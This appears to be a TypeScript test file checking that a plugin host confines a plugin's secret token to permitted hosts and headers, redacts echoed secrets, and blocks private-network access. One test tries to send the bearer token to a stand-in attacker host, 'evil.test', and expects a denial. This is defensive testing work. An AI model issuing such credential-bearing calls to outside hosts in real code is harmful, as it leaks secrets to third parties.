import { createSecret } from "@patchbay/sdk/host";
import { createTestClock, json, startFakeUpstream } from "@patchbay/sdk/testing";
import { expect, test } from "vitest";
import { optionSecrets } from "../../src/credentials/option-secrets.ts";
import type { GenerationSource } from "../../src/generation/generation-source.ts";
import { pluginHost } from "../../src/generation/plugin-host.ts";
import { createTransport } from "../../src/upstream/create-transport.ts";
import { failureOf, patient } from "../upstream/support/call.ts";

const token = createSecret("value-of-the-token", "env TOKEN");

/** The fetch of a plugin that may reach this address, with a secret that may go there. */
function fetchOf(url: string, isIsolated: boolean, privateNetwork = true) {
  const { host } = new URL(url);
  const hosts = [`http://${host}`];
  const transport = createTransport({ defaultProxy: undefined, connectMs: 5000 });
  const source = { config: { upstream: patient, dataDir: "/nowhere" }, host: { clock: createTestClock() }, transport };
  const rights = { hosts, privateNetwork, secrets: { token: { hosts, places: ["header:authorization"] } } };
  const ended = new AbortController();
  const call = pluginHost(source as unknown as GenerationSource).fetchFor({
    id: "far",
    rights,
    isIsolated,
    secrets: optionSecrets({ token }, rights.secrets),
    signal: ended.signal,
  });
  return { call, [Symbol.asyncDispose]: () => transport.close() };
}

const authorization = `Bearer ${String(token)}`;

test.each([true, false])(
  "a plugin's fetch puts its secret where it may go, and nowhere else (isolated: %s)",
  async (isIsolated) => {
    await using upstream = await startFakeUpstream(json({}));
    await using given = fetchOf(upstream.url, isIsolated);
    await (await given.call(upstream.url, { headers: { authorization } })).text();
    expect(upstream.requests[0]?.headers.authorization).toBe("Bearer value-of-the-token");
    const failure = await failureOf(given.call(upstream.url, { body: authorization }));
    expect([failure.code, failure.message]).toEqual([
      "permission-denied",
      expect.stringContaining('plugin "far" may not send the secret of option "token" in the body'),
    ]);
    expect((await failureOf(given.call("https://evil.test/", { headers: { authorization } }))).message).toContain(
      'plugin "far" may not reach evil.test:443',
    );
    expect(upstream.requests).toHaveLength(1);
  },
);

test("a plugin that is not trusted does not get its secret back from a host that echoes", async () => {
  await using upstream = await startFakeUpstream(({ headers }) =>
    json(headers, { headers: { "x-echo": String(headers.authorization) } }),
  );
  await using given = fetchOf(upstream.url, true);
  const response = await given.call(upstream.url, { headers: { authorization } });
  expect(response.headers["x-echo"]).toBe("Bearer [redacted]");
  expect(await response.json()).toMatchObject({ authorization: "Bearer [redacted]" });
});

test("a plugin that is not trusted reaches no private network without the right to", async () => {
  await using upstream = await startFakeUpstream(json({}));
  await using given = fetchOf(upstream.url, true, false);
  const failure = await failureOf(given.call(upstream.url));
  expect([failure.code, failure.message]).toEqual(["permission-denied", expect.stringContaining("privateNetwork")]);
  expect(upstream.requests).toHaveLength(0);
});
